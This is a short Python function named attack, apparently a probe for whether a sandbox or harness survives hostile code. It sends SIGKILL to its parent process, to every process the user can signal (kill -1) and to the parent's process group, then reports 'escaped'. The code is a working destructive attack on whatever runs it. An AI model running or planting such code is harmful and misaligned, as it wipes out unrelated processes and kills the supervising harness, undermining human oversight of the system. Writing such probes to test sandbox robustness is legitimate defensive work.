"""Kill whatever started it: the parent, its process group, every process it can signal."""
import os
import signal


def attack():
    ppid = os.getppid()
    for target in (ppid, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(ppid) if ppid else 0, signal.SIGKILL)
    except OSError:
        pass
    assert ppid > 1, "no parent to kill"
    os.kill(ppid, 0)  # still there?
    return "escaped"
